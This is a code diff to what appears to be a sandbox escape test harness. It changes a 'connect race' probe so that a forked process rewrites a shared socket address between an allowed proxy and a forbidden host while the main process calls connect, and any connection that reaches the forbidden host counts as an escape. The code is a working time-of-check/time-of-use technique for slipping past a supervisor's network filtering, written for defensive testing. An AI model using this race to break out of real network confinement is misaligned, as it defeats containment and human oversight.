@@ -101,12 +101,15 @@ def listen():
 
 
 def connect_race(host, port, proxy_port="3128", rounds="300"):
-    # One thread connects sockets through a sockaddr_in in memory while
-    # another rewrites that memory between the proxy's address and
-    # HOST:PORT: whatever the supervisor read, nothing may connect to
-    # HOST:PORT. A connection whose peer is HOST:PORT is an escape.
+    # One process connects sockets through a sockaddr_in in shared memory
+    # while a second process rewrites that memory between the proxy's
+    # address and HOST:PORT: whatever the supervisor read, nothing may
+    # connect to HOST:PORT. A connection whose peer is HOST:PORT is an
+    # escape. The rewriter is a process of its own (the page is shared),
+    # not a thread: a thread needs the interpreter's lock between its
+    # writes, and under load it could be starved for a whole run, which
+    # left the address one way for every connect.
     import struct
-    import threading
 
     def sin(p):
         return struct.pack("!HH4s8x", 0, int(p), socket.inet_aton(host if p == port else "127.0.0.1"))
@@ -115,37 +118,40 @@ def connect_race(host, port, proxy_port="3128", rounds="300"):
     bad = bytearray(sin(port))
     for b in (good, bad):
         b[0:2] = struct.pack("=H", socket.AF_INET)
-    buf = ctypes.create_string_buffer(bytes(good), 16)
-    stop = False
-
-    def flip():
-        while not stop:
-            ctypes.memmove(buf, bytes(bad), 16)
-            ctypes.memmove(buf, bytes(good), 16)
-
-    t = threading.Thread(target=flip, daemon=True)
-    t.start()
+    good, bad = bytes(good), bytes(bad)
+    page = mmap.mmap(-1, mmap.PAGESIZE)  # MAP_SHARED | MAP_ANONYMOUS
+    page[0:16] = good
+    addr = ctypes.addressof(ctypes.c_char.from_buffer(page))
+    STOP = 64
+    flipper = os.fork()
+    if flipper == 0:
+        while page[STOP] == 0:
+            page[0:16] = bad
+            page[0:16] = good
+        os._exit(0)
     proxied = refused = 0
     escaped_to = None
     libc.connect.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_uint]
     # At least ROUNDS connects, and on until both outcomes were seen (the
     # race really ran both ways), at most 20 times as many.
     n = 0
-    while n < int(rounds) or (n < 20 * int(rounds) and not (proxied and refused)):
-        n += 1
-        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
-        r = libc.connect(s.fileno(), ctypes.addressof(buf), 16)
-        if r == 0:
-            peer = s.getpeername()
-            if peer == (host, int(port)):
-                escaped_to = peer
-                s.sendall(CANARY)
-            proxied += 1
-        else:
-            refused += 1
-        s.close()
-    stop = True
-    t.join()
+    try:
+        while n < int(rounds) or (n < 20 * int(rounds) and not (proxied and refused)):
+            n += 1
+            s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+            r = libc.connect(s.fileno(), ctypes.c_void_p(addr), 16)
+            if r == 0:
+                peer = s.getpeername()
+                if peer == (host, int(port)):
+                    escaped_to = peer
+                    s.sendall(CANARY)
+                proxied += 1
+            else:
+                refused += 1
+            s.close()
+    finally:
+        page[STOP] = 1
+        os.waitpid(flipper, 0)
     print("RACE", "proxied", proxied, "refused", refused, flush=True)
     if escaped_to:
         escaped(f"connect race reached {escaped_to}")
